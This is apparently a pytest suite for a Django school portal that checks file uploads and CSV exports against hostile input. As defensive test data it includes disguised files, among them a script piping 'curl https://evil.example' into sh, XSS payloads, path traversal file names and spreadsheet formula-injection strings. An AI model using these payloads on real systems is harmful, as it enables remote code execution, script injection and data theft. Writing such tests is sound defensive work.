"""Hostile files at every upload: incident evidence (the report form and a case's "add files"), a
post's photos and videos, and the MIS export for the consent import. A file is judged by what it
contains, never by its name: what is not an image, PDF or video (or CSV) is refused next to the field
with nothing saved and nothing written to the private storage; what is stored is only ever served
as the type its bytes are, with the browser told not to guess. And every CSV the portal produces
quotes a cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.urls import reverse
from django.utils import timezone

from accounts.mis_import import runs as mis_runs
from accounts.models import ImportRun, ParentLink, Pupil
from accounts.roles import Role
from approvals.models import PostMedia
from approvals.services.posts import check_post_media, max_media_bytes
from consent.models import Purpose
from incidents.models import Evidence
from incidents.services.evidence import check_evidence_file, max_evidence_bytes
from tests.adversarial.common import row_counts
from tests.approvals.helpers import approve_blocked, blocked_request, official_account
from tests.consent.helpers import NO, answer
from tests.incidents.helpers import PNG_BYTES, report

pytestmark = pytest.mark.django_db

TYPED = "Messages sent to a pupil every evening"
PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

# (file name, bytes, what it is): none of them is an image, PDF or video, whatever the name says.
DISGUISED = [
    ("screenshot.png", b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>", "HTML as PNG"),
    (
        "photo.jpg",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64,
        "Windows program as JPEG",
    ),
    ("report.pdf", b"#!/bin/sh\ncurl https://evil.example | sh\n", "shell script as PDF"),
    ("logo.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "Linux program as PNG"),
    (
        "drawing.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "SVG with a script",
    ),
    (
        "drawing.png",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "SVG as PNG",
    ),
    ("archive.png", b"PK\x03\x04" + b"\x00" * 64, "ZIP as PNG"),
]
# Files whose first bytes are an image or a PDF but that are not whole or not only that: kept as
# evidence as they are (a damaged screenshot is still evidence), served only as the type they start as.
POLYGLOTS = [
    (
        "polyglot.png",
        PNG_BYTES + b"<html><script>alert(1)</script></html>",
        "image/png",
        "PNG with HTML after it",
    ),
    ("truncated.png", PNG_BYTES[:24], "image/png", "a PNG cut short"),
    ("broken.pdf", b"%PDF-1.7\n<script>alert(1)</script>", "application/pdf", "a PDF with no body"),
]


def upload(name: str, content: bytes, content_type: str = "image/png") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_files() -> set[str]:
    """Every file in the private storage."""
    root = Path(default_storage.location)
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def sparse_upload(name: str, head: bytes, size: int) -> TemporaryUploadedFile:
    """An upload of ``size`` bytes that starts with ``head``: a sparse file on disk, so a file over a
    50 MB limit costs neither memory nor disk."""
    upload = TemporaryUploadedFile(name, "application/octet-stream", size, None)
    upload.file.write(head)
    upload.file.seek(size - 1)
    upload.file.write(b"\0")
    upload.file.flush()
    upload.file.seek(0)
    return upload


def report_data(**overrides) -> dict:
    from incidents.models import Platform

    now = timezone.localtime()
    data = {
        "kind": "cyberbullying_pupil",
        "immediate_risk": "no",
        "description": TYPED,
        "platform": str(Platform.objects.get(name="Instagram").pk),
        "seen_date_day": now.day,
        "seen_date_month": now.month,
        "seen_date_year": now.year,
        "seen_time": "00:01",
    }
    data.update(overrides)
    return data


# --- incident evidence ------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "content", "what"), DISGUISED, ids=[d[2] for d in DISGUISED])
def test_the_report_form_refuses_a_file_that_is_not_what_its_name_says(
    name, content, what, personas, client_for
):
    client = client_for(personas.a[Role.STAFF])
    before, files = row_counts(), stored_files()
    response = client.post(
        reverse("incidents:report"), {**report_data(), "evidence": [upload(name, content)]}
    )
    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors["evidence"] == [
        f"“{name}” is not an image, PDF or video. Upload a screenshot (PNG or JPEG), a PDF or a video "
        "(MP4, MOV or WebM)."
    ]
    html = response.content.decode()
    assert "govuk-error-summary" in html and TYPED in html
    assert response.context["staged_files"] == []
    assert row_counts() == before and stored_files() == files


@pytest.mark.parametrize(("name", "content", "what"), DISGUISED, ids=[d[2] for d in DISGUISED])
def test_adding_files_to_a_case_refuses_them_too(name, content, what, personas, client_for):
    incident = report(personas.a[Role.STAFF], personas.a.school)
    client = client_for(personas.a[Role.DSL])
    before, files = row_counts(), stored_files()
    url = reverse("incidents:add_evidence", kwargs={"incident_id": incident.pk})
    response = client.post(url, {"evidence-files": [upload(name, content)], "evidence-source_url": ""})
    assert response.status_code == 200
    bound = next(a["form"] for a in response.context["actions"] if a["form"].prefix == "evidence")
    assert bound.errors["files"] and "is not an image, PDF or video" in bound.errors["files"][0]
    assert "govuk-error-summary" in response.content.decode()
    assert row_counts() == before and stored_files() == files


def test_an_empty_file_is_refused_by_name(personas, client_for):
    client = client_for(personas.a[Role.STAFF])
    before, files = row_counts(), stored_files()
    response = client.post(
        reverse("incidents:report"), {**report_data(), "evidence": [upload("blank.png", b"")]}
    )
    assert response.status_code == 200
    assert response.context["form"].errors["evidence"] == ["“blank.png” is empty."]
    assert row_counts() == before and stored_files() == files


def test_a_file_over_the_limit_is_refused_without_reading_it(personas):
    limit = max_evidence_bytes()
    assert limit == 25 * 1024 * 1024  # the configured limit (settings.PORTAL_EVIDENCE_MAX_BYTES or default)
    big = sparse_upload("video.png", PNG_BYTES, limit + 1)
    try:
        with pytest.raises(ValidationError) as error:
            check_evidence_file(big)
        assert error.value.messages == [
            "“video.png” is 25.0\xa0MB: evidence files must be 25.0\xa0MB or smaller."
        ]
        just = sparse_upload("video.png", PNG_BYTES, limit)
        assert check_evidence_file(just) == "image/png"
        just.close()
    finally:
        big.close()


def test_a_file_over_the_limit_is_refused_on_the_report_form(personas, client_for, settings):
    settings.PORTAL_EVIDENCE_MAX_BYTES = 1024
    client = client_for(personas.a[Role.STAFF])
    before, files = row_counts(), stored_files()
    response = client.post(
        reverse("incidents:report"),
        {
            **report_data(),
            "evidence": [upload("big.png", PNG_BYTES + b"\0" * 2048), upload("ok.png", PNG_BYTES)],
        },
    )
    assert response.status_code == 200
    assert response.context["form"].errors["evidence"] == [
        "“big.png” is 2.1\xa0KB: evidence files must be 1.0\xa0KB or smaller."
    ]
    # The good file is kept for the next attempt, in the staging folder only.
    assert [f.name for f in response.context["staged_files"]] == ["ok.png"]
    assert row_counts() == before
    # The kept file is in storage (so "all" below is not about nothing), and only under staging.
    added = stored_files() - files
    assert any(not path.endswith("manifest.json") for path in added), added
    assert all(path.startswith("evidence-staging/") for path in added), added


@pytest.mark.parametrize(("name", "content", "served_as", "what"), POLYGLOTS, ids=[p[3] for p in POLYGLOTS])
def test_a_file_that_only_starts_as_an_image_is_served_only_as_that(
    name, content, served_as, what, personas, client_for
):
    client = client_for(personas.a[Role.STAFF])
    response = client.post(
        reverse("incidents:report"), {**report_data(), "evidence": [upload(name, content)]}
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    assert evidence.content_type == served_as
    download = client_for(personas.a[Role.DSL]).get(
        reverse(
            "incidents:evidence", kwargs={"incident_id": evidence.incident_id, "evidence_id": evidence.pk}
        )
    )
    assert download.status_code == 200
    assert download["Content-Type"] == served_as
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in download["Content-Security-Policy"]
    assert download["Content-Disposition"].startswith("attachment")
    assert b"".join(download.streaming_content) == content


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.png",
        "..\\..\\windows\\win.ini.png",
        "/etc/cron.d/evil.png",
        "a" * 300 + ".png",
        "%2e%2e%2fx.png",
    ],
    ids=["parent folders", "windows folders", "absolute path", "very long", "encoded dots"],
)
def test_a_file_name_never_chooses_where_the_file_is_stored(name, personas, client_for):
    client = client_for(personas.a[Role.STAFF])
    root = Path(default_storage.location).resolve()
    outside = {p for p in root.parent.rglob("*.png")} if root.parent != Path("/") else set()
    response = client.post(
        reverse("incidents:report"), {**report_data(), "evidence": [upload(name, PNG_BYTES)]}
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    stored = (root / evidence.file.name).resolve()
    assert stored.is_relative_to(root) and stored.exists()
    assert (
        evidence.file.name == f"evidence/{evidence.incident.school_id}/{evidence.incident_id}/{evidence.pk}"
    )
    assert "/" not in evidence.original_name and "\\" not in evidence.original_name.replace("\\\\", "")
    assert len(evidence.original_name) <= 200
    assert {p for p in root.parent.rglob("*.png")} == outside
    assert not Path("/etc/passwd.png").exists() and not Path("/etc/cron.d/evil.png").exists()


# --- a post's photos and videos ---------------------------------------------------------------------


def _post_form(personas, **fields):
    a = personas.a
    account = official_account(a, handle="@school_a_uploads")
    data = {"account": account.pk, "text": TYPED, "pupils": []}
    data.update(fields)
    return data


@pytest.mark.parametrize(("name", "content", "what"), DISGUISED, ids=[d[2] for d in DISGUISED])
def test_a_posts_media_must_really_be_a_photo_or_video(name, content, what, personas, client_for):
    client = client_for(personas.a[Role.MARKETING_OFFICER])
    data = _post_form(personas)
    before, files = row_counts(), stored_files()
    response = client.post(reverse("approvals:create_post"), {**data, "media": [upload(name, content)]})
    assert response.status_code == 200
    errors = response.context["form"].errors["media"]
    assert errors[0].startswith(f"“{name}” is not a photo or a video.")
    assert TYPED in response.content.decode() and "govuk-error-summary" in response.content.decode()
    assert row_counts() == before and stored_files() == files


def test_a_posts_media_empty_or_over_the_limit(personas, client_for, settings):
    assert max_media_bytes() == 50 * 1024 * 1024
    big = sparse_upload("film.mp4", b"\0\0\0\x18ftypmp42", max_media_bytes() + 1)
    try:
        with pytest.raises(ValidationError, match="photos and videos must be 50 MB or smaller"):
            check_post_media(big)
    finally:
        big.close()
    client = client_for(personas.a[Role.MARKETING_OFFICER])
    data = _post_form(personas)
    before, files = row_counts(), stored_files()
    response = client.post(reverse("approvals:create_post"), {**data, "media": [upload("blank.jpg", b"")]})
    assert response.context["form"].errors["media"][0] == "“blank.jpg” is empty."
    settings.PORTAL_POST_MEDIA_MAX_BYTES = 1024 * 1024
    response = client.post(
        reverse("approvals:create_post"),
        {**data, "media": [upload("big.png", PNG_BYTES + b"\0" * 1024 * 1024)]},
    )
    assert response.context["form"].errors["media"][0].startswith("“big.png” is 1.0 MB")
    assert row_counts() == before and stored_files() == files


def test_a_posts_media_is_stored_under_a_name_of_its_own(personas, client_for):
    client = client_for(personas.a[Role.MARKETING_OFFICER])
    response = client.post(
        reverse("approvals:create_post"),
        {**_post_form(personas), "media": [upload("../../../" + "b" * 250 + ".png", PNG_BYTES)]},
    )
    assert response.status_code == 302
    media = PostMedia.objects.get()
    assert media.file.name.startswith("approvals/posts/") and ".." not in media.file.name
    assert "/" not in media.original_name and len(media.original_name) <= 200
    assert media.content_type == "image/png"


# --- the MIS export -----------------------------------------------------------------------------------

HEADER = (
    "UPN,Legal Forename,Legal Surname,DOB,Year,Reg Group,Contact 1 Forename,Contact 1 Surname,"
    "Contact 1 Email,Contact 1 Relationship,Contact 1 Parental Responsibility"
)


def mis_upload(client, personas, name: str, content: bytes):
    return client.post(
        reverse("accounts:import_upload"),
        {"school": personas.a.school.pk, "file": SimpleUploadedFile(name, content, "text/csv")},
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "export.csv",
            b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64,
            "The file must be a CSV file, not a spreadsheet",
        ),
        (
            "export.csv",
            b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64,
            "The file must be a CSV file, not a spreadsheet",
        ),
        ("export.xlsx", b"UPN,Forename\nA1,Ann\n", "The file must be a CSV file (saved as .csv"),
        ("export.exe", b"UPN,Forename\nA1,Ann\n", "The file must be a CSV file (saved as .csv"),
        ("export.csv", b"", "The file is empty"),
        ("../../etc/export.sh", b"#!/bin/sh\n", "The file must be a CSV file (saved as .csv"),
    ],
    ids=["program", "spreadsheet", "xlsx name", "exe name", "empty", "path and script"],
)
def test_the_mis_import_refuses_what_is_not_a_csv(name, content, message, personas, client_for):
    client = client_for(personas[Role.TRUST_ADMINISTRATOR])
    before, files = row_counts(), stored_files()
    response = mis_upload(client, personas, name, content)
    assert response.status_code == 200
    assert any(message in error for error in response.context["form"].errors["file"])
    assert "govuk-error-summary" in response.content.decode()
    assert row_counts() == before and stored_files() == files


def test_the_mis_import_refuses_a_file_over_its_limit(personas, monkeypatch, client_for):
    admin = personas[Role.TRUST_ADMINISTRATOR]
    big = sparse_upload("export.csv", b"UPN,Forename\n", mis_runs.MAX_UPLOAD_BYTES + 1)
    try:
        with pytest.raises(ValidationError, match="smaller than 50 MB"):
            mis_runs.import_upload(by=admin, school=personas.a.school, upload=big)
    finally:
        big.close()
    monkeypatch.setattr(mis_runs, "MAX_UPLOAD_BYTES", 100)
    client = client_for(admin)
    before, files = row_counts(), stored_files()
    response = mis_upload(client, personas, "export.csv", (HEADER + "\n").encode() * 3)
    assert response.context["form"].errors["file"] == ["The file must be smaller than 50 MB."]
    assert row_counts() == before and stored_files() == files


def test_an_html_page_named_csv_is_read_as_text_and_refused_by_its_columns(
    personas, client_for, django_capture_on_commit_callbacks
):
    client = client_for(personas[Role.TRUST_ADMINISTRATOR])
    pupils = Pupil.objects.count()
    with django_capture_on_commit_callbacks(execute=True):
        response = mis_upload(client, personas, "export.csv", b"<html><script>alert(1)</script></html>\n")
    assert response.status_code == 302
    run = ImportRun.objects.get()
    assert run.status == ImportRun.Status.FAILED and run.error
    page = client.get(response["Location"])
    assert "<script>alert(1)</script>" not in page.content.decode()
    assert Pupil.objects.count() == pupils


FORMULAS = [
    '=HYPERLINK("https://evil.example","Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _is_neutral(cell: str) -> bool:
    """A spreadsheet shows the cell as text: it does not start with a formula character."""
    return cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_formula_cells_of_an_mis_export_never_reach_a_csv_as_formulas(
    personas, client_for, django_capture_on_commit_callbacks
):
    admin = client_for(personas[Role.TRUST_ADMINISTRATOR])
    rows = [HEADER]
    for n, formula in enumerate(FORMULAS):
        cell = '"' + formula.replace('"', '""') + '"'
        rows.append(f"F{n},{cell},{cell},01/01/2016,5,5P,{cell},{cell},parent{n}@home.example,Mother,Y")
    text = "\n".join(rows) + "\n"
    with django_capture_on_commit_callbacks(execute=True):
        assert mis_upload(admin, personas, "export.csv", text.encode()).status_code == 302
    run = ImportRun.objects.get()
    assert run.status == ImportRun.Status.PREVIEWED, run.error
    with django_capture_on_commit_callbacks(execute=True):
        assert admin.post(reverse("accounts:import_apply", args=[run.pk])).status_code == 302
    run.refresh_from_db()
    assert run.status == ImportRun.Status.APPLIED, run.error
    imported = list(Pupil.objects.filter(mis_id__startswith="F", school=personas.a.school))
    assert len(imported) == len(FORMULAS), run.result
    for pupil in imported:
        # A refusal: the register lists refusals and restrictions, with who gave them.
        link = ParentLink.objects.filter(pupil=pupil).select_related("parent").get()
        answer(link.parent, pupil, {Purpose.SCHOOL_WEBSITE: NO})
    manager = client_for(personas.a[Role.MARKETING_OFFICER])
    response = manager.get(reverse("consent:register_csv"))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    # The imported names (the pupils' and the parents' who answered) are in the export, quoted.
    assert sum("HYPERLINK" in cell for cell in cells) == 3
    bad = [cell for cell in cells if not _is_neutral(cell)]
    assert not bad, f"cells a spreadsheet would run: {bad}"


def test_the_filtering_review_csv_quotes_formula_cells(personas, client_for):
    a = personas.a
    request = blocked_request(a)
    detail = request.blocked_content
    detail.url = "https://example.com/=cmd"
    detail.site_content = FORMULAS[0]
    detail.reasons = FORMULAS[1]
    detail.risks_and_controls = FORMULAS[2]
    detail.save(update_fields=["url", "site_content", "reasons", "risks_and_controls"])
    a[Role.STAFF].full_name = FORMULAS[3]
    a[Role.STAFF].save(update_fields=["full_name"])
    approve_blocked(a, request)
    client = client_for(a[Role.HEADTEACHER])
    response = client.get(reverse("approvals:filtering_review_csv"), {"school": a.school.pk})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells) and any("calc" in cell for cell in cells)
    bad = [cell for cell in cells if not _is_neutral(cell)]
    assert not bad, f"cells a spreadsheet would run: {bad}"


def test_every_csv_the_portal_produces_is_checked_here():
    from tests.access.rules import RULES

    # The CSV downloads: a new one must join the two formula tests above.
    assert {name for name in RULES if "csv" in name} == {
        "consent:register_csv",
        "approvals:filtering_review_csv",
    }
    from django.conf import settings

    base = Path(settings.BASE_DIR)
    writers = set()
    for app in ("core", "accounts", "approvals", "consent", "governance", "incidents", "portal"):
        for path in (base / app).rglob("*.py"):
            if "csv.writer(" in path.read_text():
                writers.add(str(path.relative_to(base)))
    # Every export goes through core.csv.write_csv, which quotes cells that start like a formula.
    assert writers == {"core/csv.py"}
